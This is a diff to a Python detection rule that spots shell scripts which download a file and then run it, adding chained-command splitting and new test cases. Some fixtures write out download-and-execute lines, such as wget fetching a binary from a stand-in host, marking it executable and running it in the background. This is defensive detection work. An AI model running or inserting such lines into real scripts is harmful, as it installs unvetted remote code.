@@ -1,10 +1,10 @@
-"""A script, or a file of start-up lines, that downloads a file on one line and runs it on another.
+"""A script, or a file of start-up lines, that downloads a file and runs it further on.
 
-Within one line the Sigma rule `linux.command.download-then-run` sees it.
+Within one line the Sigma rule `linux.command.download-then-run` sees more ways, whatever the name.
 """
 
 import re
-from collections.abc import Collection, Iterable, Iterator
+from collections.abc import Collection, Iterable, Iterator, Mapping
 from dataclasses import dataclass
 
 from hemostat.detect.check import check, fires, quiet
@@ -37,6 +37,7 @@ TEXTS = RuleTexts(
 
 _MAX_TEXT = 16 * 1024
 _BREAK = re.compile(r"[;&|\n(){}]+")
+_CHAINED = re.compile(r"[;\n]+|&&|\|\||\bthen\b")
 _FETCHERS = frozenset({"curl", "wget", "wget2", "aria2c", "axel", "fetch", "lwp-download"})
 _RUNNERS = re.compile(r"(?:ba|da|z|k|a)?sh|source|\.|python[\d.]*|perl|php|ruby|node")
 _BEFORE = frozenset(
@@ -53,6 +54,8 @@ _PUBLISHED = re.compile(
     re.IGNORECASE,
 )
 _UNCHECKED = re.compile(r"\s(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure|--no-check-certificate)\b")
+# What a function was called with: where, its callers say.
+_PARAMETER = re.compile(r"\$[1-9]")
 _DETACHED = re.compile(r"\b(?:nohup|setsid|disown)\b|(?<![&>|])&(?![&>\d])")
 _ENTERED = re.compile(r"(?:^|[\s;&|({])(?:cd|pushd)\s+([^\s;&|]+)")
 _OWN_FOLDER = re.compile(r"\$\(dirname\b.*|`dirname\b.*|\$\{0%/\*\}.*")
@@ -101,6 +104,20 @@ def _boot(command: str, line: int) -> Startup:
             _script("curl -s http://x.example/a.py > /var/lib/a.py", 1),
             _script("python3 /var/lib/a.py", 9),
         ),
+        fires(
+            _script(
+                "wget -qO /sbin/kd2 http://x.example/k && chmod 755 /sbin/kd2 && /sbin/kd2 &", 2
+            )
+        ),
+        fires(
+            _script("[ -x $D/a ] || { curl -so $D/a http://x.example/a; chmod +x $D/a; }; $D/a", 1)
+        ),
+        quiet(
+            _script(
+                "curl -so /usr/local/bin/jq https://x.example/jq && chmod +x /usr/local/bin/jq", 1
+            )
+        ),
+        quiet(_script("/opt/a/run && wget -q https://example.org/run -O /opt/a/run", 1)),
         quiet(
             _script("wget -q https://example.org/list.csv -O list.csv", 1),
             _script("python3 import.py list.csv", 2),
@@ -148,8 +165,8 @@ def fetched_then_run(
 
 def _within(lines: list[_Line], rooted: Collection[tuple[Scope, str]]) -> Iterator[Claim]:
     saved: dict[str, _Line] = {}
-    for line in lines:
-        for name in names_run(line.command) if saved else ():
+    for line, command in _commands(lines, saved):
+        for name in names_run(command) if saved else ():
             if name in saved:
                 download = saved.pop(name)
                 home = _own_home(line, rooted) and _own_home(download, rooted)
@@ -160,10 +177,18 @@ def _within(lines: list[_Line], rooted: Collection[tuple[Scope, str]]) -> Iterat
                     and all(_stays_in(home, each.command) for each in lines)
                 )
                 yield _claim(line, download, name, Level.LOW if is_own else None)
-        for name in names_saved(line.command):
+        for name in names_saved(command):
             first = saved.setdefault(name, line)
             if _is_published(first.command) and not _is_published(line.command):
                 saved[name] = line
+
+
+def _commands(lines: list[_Line], saved: Mapping[str, _Line]) -> Iterator[tuple[_Line, str]]:
+    """Each line with each of its commands, in order; none where nothing can be fetched or run."""
+    for line in lines:
+        text = line.command[:_MAX_TEXT]
+        if saved or any(fetcher in text for fetcher in _FETCHERS):
+            yield from ((line, part) for part in _CHAINED.split(text))
 
 
 def _own_home(line: _Line, rooted: Collection[tuple[Scope, str]]) -> str:
@@ -187,7 +212,10 @@ def _is_published_part(command: str, home: str) -> bool:
     return (
         _is_published(command)
         and not _UNCHECKED.search(command)
-        and all(_is_in_home(target, home) for target in _targets(command))
+        and all(
+            _PARAMETER.fullmatch(target) or _is_in_home(target, home)
+            for target in _targets(command)
+        )
     )
 
 
